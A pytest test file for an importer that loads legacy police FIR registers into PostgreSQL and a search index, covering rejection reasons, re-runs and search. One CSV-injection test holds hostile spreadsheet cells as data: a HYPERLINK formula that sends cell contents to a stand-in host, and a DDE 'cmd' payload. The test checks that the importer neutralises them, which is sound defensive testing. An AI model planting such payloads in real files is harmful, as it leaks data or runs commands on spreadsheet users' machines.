"""Importing for real into PostgreSQL: every rejection reason, counts that always add up, re-runs that change
nothing, updates and skips by natural key, people named in the row, and records found by search after the
outbox is drained."""

from __future__ import annotations

import csv
import time
from pathlib import Path

import pytest
import sqlalchemy as sa

from indexes.embedded import TantivyEngine
from indexes.searchbox import Filters, fir_request, interpret, person_request, search_strictly_first
from indexes.sync import drain_outbox
from ingest.legacy.job import ImportRun
from ingest.legacy.profile import ProfileError, load_profile, parse_profile
from ingest.legacy.readers import read_rows
from ingest.legacy.rejects import write_rejects_csv

HEADER = ["PS Name", "District", "Case No", "FIR Date", "FIR Time", "Occurrence Date", "Sections", "Complainant",
          "Accused", "Status", "IO"]  # fmt: skip
GOOD = [
    ["Hajipur Sadar PS", "Vaishali", "101/2012", "05/01/2012", "14:30", "04-01-12", "379/411 IPC",
     "Ram Kumar s/o Shyam Lal", "Mohan Yadav s/o Sohan Yadav; राम कुमार पिता श्याम लाल", "Charge sheeted",
     "SI R K Singh"],
    ["थाना बिदुपुर", "Vaishali", "7/2013", "12/03/2013", "", "", "धारा 302, 201 भा.द.वि. एवं 27 आर्म्स एक्ट",
     "सीता देवी पति राम प्रसाद", "", "Pending", ""],
    ["Lalganj", "Vaishali", "15", "01/02/2010", "09:15", "31-01-10", "IPC 1860 U/s: 420,467", "", "Suresh Sah", "", ""],
]  # fmt: skip
# One row per rejection reason, with the reasons it must produce.
BAD: list[tuple[list[str], set[str]]] = [
    (["Hajipur Sadar", "Vaishali", "", "05/01/2012", "", "", "379 IPC", "", "", "", ""], {"missing_field"}),
    (["Hajipur Sadar", "Vaishali", "102/2012", "35/01/2012", "", "", "379 IPC", "", "", "", ""], {"bad_date"}),
    (["Atlantis PS", "Vaishali", "103/2012", "05/01/2012", "", "", "379 IPC", "", "", "", ""], {"unknown_station"}),
    (["Hajipur Sadar", "Vaishali", "104/2012", "05/01/2012", "", "", "12 Martian Act", "", "", "", ""],
     {"unknown_act"}),
    (["Hajipur Sadar", "Vaishali", "105/2012", "05/01/2012", "", "", "999 IPC", "", "", "", ""], {"unknown_section"}),
    (["Hajipur Sadar", "Vaishali", "5/2025", "05/01/2025", "", "03-01-25", "379 IPC", "", "", "", ""],
     {"act_not_in_force"}),
    (["Hajipur Sadar", "Vaishali", "A-12", "05/01/2012", "", "", "379 IPC", "", "", "", ""], {"bad_fir_number"}),
    (["Hajipur Sadar", "Vaishali", "106/2012", "05/01/2012", "", "", "379 IPC", "", "", "Sent to Mars", ""],
     {"unknown_status"}),
    (["Hajipur Sadar", "Vaishali", "107/2011", "05/01/2012", "", "", "379 IPC", "", "", "", ""], {"year_mismatch"}),
    (["Hajipur Sadar", "Vaishali", "101/2012", "05/01/2012", "", "", "379 IPC", "", "", "", ""],
     {"duplicate_in_file"}),
    (["Hajipur Sadar", "Vaishali", "109/2012", "05/01/2012", "", "", "379 IPC", "", "s/o Nobody", "", ""],
     {"bad_name"}),
    (["Hajipur Sadar", "Vaishali", "110/2012", "05/01/2099", "", "", "379 IPC", "", "", "", ""],
     {"date_in_future", "year_mismatch"}),
]  # fmt: skip


def write(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> Path:
    with path.open("w", encoding=encoding, newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(HEADER)
        writer.writerows(rows)
    return path


@pytest.fixture(scope="module")
def profile():  # type: ignore[no-untyped-def]
    return load_profile("example-district-register")


def snapshot(engine: sa.Engine) -> dict[str, list[tuple[object, ...]]]:
    """Every imported fact by natural keys (no surrogate ids, no clock times)."""
    key = "ps.code, f.year, f.serial"
    queries = {
        "fir": f"SELECT {key}, f.registered_at, f.occurrence_from, f.status, f.io_name, f.version, f.is_synthetic "
        "FROM fir f JOIN police_station ps ON ps.id = f.station_id",
        "sections": f"SELECT {key}, a.code, s.number, fs.position FROM fir_section fs JOIN fir f ON f.id = fs.fir_id "
        "JOIN police_station ps ON ps.id = f.station_id JOIN section s ON s.id = fs.section_id "
        "JOIN act a ON a.id = s.act_id",
        "status": f"SELECT {key}, c.from_status, c.to_status, c.changed_at, c.note FROM fir_status_change c "
        "JOIN fir f ON f.id = c.fir_id JOIN police_station ps ON ps.id = f.station_id",
        "legacy": f"SELECT {key}, l.source, l.sections_as_given, l.crime_head_as_given, l.status_as_given "
        "FROM fir_legacy_record l JOIN fir f ON f.id = l.fir_id JOIN police_station ps ON ps.id = f.station_id",
        "people": "SELECT k.key, p.name, p.relative_name, p.relation_kind, p.gender, p.age_years, p.is_synthetic, "
        "(SELECT array_agg(number ORDER BY number) FROM person_mobile m WHERE m.person_id = p.id), "
        "(SELECT array_agg(address ORDER BY address) FROM person_address a WHERE a.person_id = p.id), "
        "(SELECT array_agg(alias ORDER BY alias) FROM person_alias a WHERE a.person_id = p.id) "
        "FROM person p JOIN import_record_key k ON k.entity_id = p.id",
        "parties": f"SELECT {key}, k.key, fp.role, fp.accused_number, fp.name_as_given, fp.relative_name_as_given, "
        "fp.mobile_as_given FROM fir_party fp JOIN fir f ON f.id = fp.fir_id "
        "JOIN police_station ps ON ps.id = f.station_id JOIN import_record_key k ON k.entity_id = fp.person_id",
        "properties": f"SELECT {key}, p.kind, p.description, p.value, p.vehicle_registration, p.vehicle_chassis, "
        "p.vehicle_engine, p.vehicle_make_model, p.mobile_imei, p.import_source FROM fir_property p "
        "JOIN fir f ON f.id = p.fir_id JOIN police_station ps ON ps.id = f.station_id",
        "arrests": f"SELECT {key}, k.key, a.kind, a.at, a.import_source FROM arrest a JOIN fir f ON f.id = a.fir_id "
        "JOIN police_station ps ON ps.id = f.station_id JOIN import_record_key k ON k.entity_id = a.person_id",
        "final_reports": f"SELECT {key}, r.kind, r.submitted_on, r.report_number, r.import_source FROM final_report r "
        "JOIN fir f ON f.id = r.fir_id JOIN police_station ps ON ps.id = f.station_id",
        "court": f"SELECT {key}, c.result, c.disposed_on, c.court, c.person_id, c.import_source FROM court_disposal c "
        "JOIN fir f ON f.id = c.fir_id JOIN police_station ps ON ps.id = f.station_id",
        "transfers": f"SELECT {key}, t.code, f.transferred_at FROM fir f "
        "JOIN police_station ps ON ps.id = f.station_id "
        "JOIN police_station t ON t.id = f.transferred_to_station_id",
        "counters": "SELECT ps.code, c.year, c.last_serial FROM fir_number_counter c "
        "JOIN police_station ps ON ps.id = c.station_id",
        "stations": "SELECT code, name_en FROM police_station",
        "outbox": "SELECT o.entity_type, count(*) FROM outbox o GROUP BY 1",
        "rejects": "SELECT file_name, source_row, reasons FROM import_reject",
    }
    with engine.connect() as connection:
        return {name: sorted(map(tuple, connection.execute(sa.text(q)).all()), key=repr) for name, q in queries.items()}


def test_good_rows_are_imported_with_their_people_sections_and_status(clean: sa.Engine, profile, tmp_path) -> None:  # type: ignore[no-untyped-def]
    report = ImportRun(clean, write(tmp_path / "register.csv", GOOD), profile).run()
    assert (report.totals.read, report.totals.accepted, report.totals.rejected) == (3, 3, 0)
    state = snapshot(clean)
    assert [(row[0], row[1], row[2], row[5]) for row in state["fir"]] == [
        ("VAISHALI-BIDUPUR", 2013, 7, "under_investigation"),
        ("VAISHALI-HAJIPUR-SADAR", 2012, 101, "charge_sheeted"),
        ("VAISHALI-LALGANJ", 2010, 15, "registered"),
    ]
    hajipur = next(row for row in state["fir"] if row[2] == 101)
    assert hajipur[3].isoformat() == "2012-01-05T09:00:00+00:00"  # 14:30 IST
    assert {(r[3], r[4]) for r in state["sections"] if r[2] == 7} == {("IPC", "302"), ("IPC", "201"), ("ARMS", "27")}
    parties = {(r[4], r[6], r[7]) for r in state["parties"]}
    assert ("complainant", "Ram Kumar", "Shyam Lal") in parties
    assert ("accused", "Mohan Yadav", "Sohan Yadav") in parties
    assert ("accused", "राम कुमार", "श्याम लाल") in parties
    assert ("complainant", "सीता देवी", "राम प्रसाद") in parties
    husband = next(p for p in state["people"] if p[1] == "सीता देवी")
    assert husband[3] == "husband"
    # imported serials do not move the live counter (issue 17): live registrations step over them instead
    assert {row[:3] for row in state["counters"]} >= {("VAISHALI-HAJIPUR-SADAR", 2012, 0)}
    # queued for the index once per FIR after its last change; people come with the FIRs that name them
    assert dict(state["outbox"]) == {"fir": 3}
    # the triggers' rows of the one batch: its 3 FIRs, and its 5 people, whose rows go (the FIRs cover them)
    assert report.outbox_collapsed == 5


def test_every_rejection_reason_and_the_counts_always_add_up(clean: sa.Engine, profile, tmp_path) -> None:  # type: ignore[no-untyped-def]
    rows = GOOD + [row for row, _ in BAD]
    report = ImportRun(clean, write(tmp_path / "mixed.csv", rows), profile, batch_rows=4).run()
    totals = report.totals
    assert totals.read == len(rows) == totals.accepted + totals.rejected
    assert totals.rejected == len(BAD)
    with clean.connect() as connection:
        stored = {
            row.source_row: {problem["reason"] for problem in row.reasons}
            for row in connection.execute(sa.text("SELECT source_row, reasons FROM import_reject"))
        }
    expected = {len(GOOD) + 2 + index: reasons for index, (_, reasons) in enumerate(BAD)}  # header is row 1
    assert stored == expected
    for reason in set().union(*expected.values()):
        assert totals.reasons[reason] == sum(1 for reasons in expected.values() if reason in reasons)
    out = tmp_path / "rejects.csv"
    assert write_rejects_csv(clean, report.job_id, out) == len(BAD)
    with out.open(encoding="utf-8-sig") as handle:
        written = list(csv.DictReader(handle))
    assert [int(row["source_row"]) for row in written] == sorted(expected)
    unknown = next(row for row in written if "unknown_station" in row["reasons"])
    assert unknown["PS Name"] == "Atlantis PS" and "cctns stations load" in unknown["details"]


def test_rejects_csv_never_carries_a_formula_and_reads_back_as_imported(clean: sa.Engine, profile, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """OWASP "CSV Injection": imported cells that a spreadsheet would run are quoted; numbers are left alone."""
    link = '=HYPERLINK("http://x/?"&A1,"Click")'
    rows = [
        ["Atlantis PS", "Vaishali", "120/2012", "05/01/2012", "", "", "379 IPC", link, "+cmd|' /C calc'!A0", "", ""],
        ["Atlantis PS", "Vaishali", "121/2012", "05/01/2012", "", "", "379 IPC", "@SUM(1+1)", "-12", "", "-3.5"],
        ["Atlantis PS", "Vaishali", "122/2012", "05/01/2012", "", "", "379 IPC", "+91 98765 43210", "", "", ""],
    ]
    report = ImportRun(clean, write(tmp_path / "evil.csv", rows), profile).run()
    assert report.totals.rejected == 3
    out = tmp_path / "rejects.csv"
    write_rejects_csv(clean, report.job_id, out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        written = {row["source_row"]: row for row in csv.DictReader(handle)}
    assert written["2"]["Complainant"] == "'" + link and written["2"]["Accused"] == "'+cmd|' /C calc'!A0"
    assert written["3"]["Complainant"] == "'@SUM(1+1)" and written["3"]["Accused"] == "-12"
    assert written["3"]["IO"] == "-3.5" and written["4"]["Complainant"] == "+91 98765 43210"
    # fixed and imported again, the file gives back the cells as they were
    again = {row.values["source_row"]: row.values for row in read_rows(out)}
    assert again["2"]["Complainant"] == link and again["3"]["Complainant"] == "@SUM(1+1)"


def test_a_rerun_changes_nothing_and_a_changed_row_updates(clean: sa.Engine, profile, tmp_path) -> None:  # type: ignore[no-untyped-def]
    path = write(tmp_path / "register.csv", GOOD)
    ImportRun(clean, path, profile).run()
    first = snapshot(clean)
    again = ImportRun(clean, path, profile).run()
    assert (again.totals.inserted, again.totals.updated, again.totals.unchanged) == (0, 0, 3)
    second = snapshot(clean)
    assert {k: v for k, v in second.items() if k != "outbox"} == {k: v for k, v in first.items() if k != "outbox"}
    assert second["outbox"] == first["outbox"]  # nothing changed, nothing queued for the index
    changed = [row[:] for row in GOOD]
    changed[0][9] = "Final form"
    report = ImportRun(clean, write(tmp_path / "changed.csv", changed), profile).run()
    assert report.totals.updated == 1
    state = snapshot(clean)
    assert len(state["fir"]) == 3
    hajipur = next(row for row in state["fir"] if row[2] == 101)
    assert (hajipur[5], hajipur[7]) == ("final_report_undetected", 2)  # status, version
    assert ("VAISHALI-HAJIPUR-SADAR", 2012, 101, "charge_sheeted", "final_report_undetected") in [
        row[:5] for row in state["status"]
    ]


def test_people_newly_named_are_queued_for_matching_once(clean: sa.Engine, profile, tmp_path) -> None:  # type: ignore[no-untyped-def]
    path = write(tmp_path / "register.csv", GOOD)
    queued = "SELECT count(*), count(DISTINCT (person_id, fir_id)) FROM person_match_queue"
    ImportRun(clean, path, profile).run()
    with clean.connect() as connection:
        assert tuple(connection.execute(sa.text(queued)).one()) == (5, 5)  # the 5 people the 3 FIRs name
    ImportRun(clean, path, profile).run()
    with clean.connect() as connection:
        assert tuple(connection.execute(sa.text(queued)).one()) == (5, 5), "a re-run queues nobody again"


def test_skip_leaves_existing_firs_as_they_are(clean: sa.Engine, profile, tmp_path) -> None:  # type: ignore[no-untyped-def]
    ImportRun(clean, write(tmp_path / "register.csv", GOOD), profile).run()
    changed = [row[:] for row in GOOD]
    changed[0][9] = "Final form"
    skipping = parse_profile(profile.text.replace("on_existing: update", "on_existing: skip"), name_hint="skip")
    report = ImportRun(clean, write(tmp_path / "changed.csv", changed), skipping).run()
    assert (report.totals.inserted, report.totals.updated) == (0, 0)
    assert next(row for row in snapshot(clean)["fir"] if row[2] == 101)[5] == "charge_sheeted"


def test_imported_records_are_found_by_search_after_the_outbox_is_drained(clean: sa.Engine, profile, tmp_path) -> None:  # type: ignore[no-untyped-def]
    ImportRun(clean, write(tmp_path / "register.csv", GOOD), profile).run()
    search = TantivyEngine(tmp_path / "index")
    search.ensure_ready()
    try:
        report = drain_outbox(clean, search)
        assert report.events == 3 and report.upserted == 3 + 5  # 3 FIRs and the 5 people they name
        with clean.connect() as connection:
            assert connection.execute(sa.text("SELECT count(*) FROM outbox")).scalar() == 0
        for query, station_code in (("Mohan Yadav", "VAISHALI-HAJIPUR-SADAR"), ("सीता देवी", "VAISHALI-BIDUPUR")):
            request = person_request(interpret(query), Filters())
            assert request is not None
            response = search_strictly_first(search, request)
            assert response.total >= 1, query
            with clean.connect() as connection:
                station_id = connection.execute(
                    sa.text("SELECT id FROM police_station WHERE code = :c"), {"c": station_code}
                ).scalar()
            assert any(station_id in hit.document.get("station_ids", []) for hit in response.hits), query
        fir = fir_request(interpret("101/2012"), Filters())
        assert fir is not None and search.search(fir).total == 1
    finally:
        search.close()


def test_a_check_writes_nothing(clean: sa.Engine, profile, tmp_path) -> None:  # type: ignore[no-untyped-def]
    report = ImportRun(clean, write(tmp_path / "mixed.csv", [*GOOD, BAD[0][0]]), profile).check()
    assert report.checked_only and (report.totals.accepted, report.totals.rejected) == (3, 1)
    state = snapshot(clean)
    assert state["fir"] == [] and state["people"] == [] and state["rejects"] == []
    with clean.connect() as connection:
        assert connection.execute(sa.text("SELECT count(*) FROM import_job")).scalar() == 0


def test_a_profile_that_does_not_fit_the_file_names_each_missing_column(clean: sa.Engine, tmp_path) -> None:  # type: ignore[no-untyped-def]
    profile = parse_profile(
        "name: wrong\nfir:\n  station: Thana\n  number: Case No\n  registered_at: Darj Tithi\n", name_hint="wrong"
    )
    with pytest.raises(ProfileError) as error:
        ImportRun(clean, write(tmp_path / "r.csv", GOOD), profile).check()
    message = str(error.value)
    assert "station: column 'Thana' is not in r.csv" in message and "registered_at: column 'Darj Tithi'" in message


def test_a_malformed_profile_names_the_field(tmp_path: Path) -> None:
    with pytest.raises(ProfileError) as error:
        parse_profile("name: x\nfir:\n  station: A\n  number: B\n  registered: C\n", name_hint="x")
    assert "fir.registered_at: Field required" in str(error.value)
    assert "fir.registered: Extra inputs are not permitted" in str(error.value)
    toml = parse_profile(
        'name = "t"\n[fir]\nstation = "A"\nnumber = "B"\nregistered_at = {column = "C", formats = ["%d/%m/%Y"]}\n',
        "toml",
    )
    assert toml.fir.registered_at.formats == ["%d/%m/%Y"]


def test_every_sheet_of_a_workbook_with_rejects_at_the_same_row_of_two_sheets(
    clean: sa.Engine, profile, tmp_path
) -> None:  # type: ignore[no-untyped-def]
    import openpyxl

    workbook = openpyxl.Workbook()
    first = workbook.active
    first.title = "2012"
    second = workbook.create_sheet("2013")
    for sheet, rows in ((first, [GOOD[0], BAD[2][0]]), (second, [GOOD[1], BAD[2][0]])):
        sheet.append(HEADER)
        for row in rows:
            sheet.append(row)
    path = tmp_path / "register.xlsx"
    workbook.save(path)
    excel = parse_profile(profile.text.replace("format: csv", "format: excel"), name_hint="excel")
    report = ImportRun(clean, path, excel).run()
    assert (report.totals.read, report.totals.accepted, report.totals.rejected) == (4, 2, 2)
    out = tmp_path / "rejects.csv"
    write_rejects_csv(clean, report.job_id, out)
    with out.open(encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert [(row["sheet"], row["source_row"]) for row in rows] == [("2012", "3"), ("2013", "3")]


def test_what_the_profile_does_not_read_is_reported_not_dropped_silently(clean: sa.Engine, tmp_path: Path) -> None:
    from sample_data import generate_to_files

    export = tmp_path / "export"
    generate_to_files(export, 30, seed=4)
    report = ImportRun(clean, export, load_profile("cctns-export")).check()
    assert report.totals.read > 0 and report.totals.rejected == 0
    assert report.not_read == []  # our own export is read completely: every file, every column
    assert set(report.files) == {"persons.jsonl", "firs.csv", "fir_parties.csv", "fir_properties.csv"}
    (export / "notes.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    with (export / "fir_properties.csv").open(encoding="utf-8") as handle:
        header = handle.readline().strip()
    (export / "fir_properties.csv").write_text(f"{header},colour\n", encoding="utf-8")
    report = ImportRun(clean, export, load_profile("cctns-export")).check()
    assert report.not_read == [
        "notes.csv: the whole file (the profile reads no such file)",
        "fir_properties.csv: columns colour",
    ]
    assert report.as_dict()["not_read"] == report.not_read
    register = ImportRun(clean, write(tmp_path / "register.csv", GOOD), load_profile("example-district-register"))
    assert register.check().not_read == []  # a profile that reads every column reports nothing


def test_the_tables_an_import_grows_get_fresh_planner_statistics(
    clean: sa.Engine, profile, tmp_path, monkeypatch: pytest.MonkeyPatch
) -> None:  # type: ignore[no-untyped-def]
    """Without them (autovacuum off, or not yet round) the index drain after a big import plans its lookups by
    person as sequential scans of millions of rows."""
    from ingest.legacy.load import upkeep

    monkeypatch.setattr(upkeep, "ANALYZE_FROM_ROWS", 1)  # this file's 3 rows count as a big import
    counts = "SELECT relname, analyze_count FROM pg_stat_user_tables WHERE relname = ANY(:tables)"
    tables = {"tables": list(upkeep.IMPORTED_TABLES)}
    with clean.connect() as connection:
        before = dict(connection.execute(sa.text(counts), tables).all())
    ImportRun(clean, write(tmp_path / "register.csv", GOOD), profile).run()
    deadline = time.monotonic() + 10  # the statistics' counters are published shortly after the transaction
    while True:
        with clean.connect() as connection:
            connection.execute(sa.text("SELECT pg_stat_clear_snapshot()"))
            after = dict(connection.execute(sa.text(counts), tables).all())
        stale = [table for table in upkeep.IMPORTED_TABLES if after.get(table, 0) <= before.get(table, 0)]
        if not stale or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    assert not stale, f"not analysed after the import: {stale}"
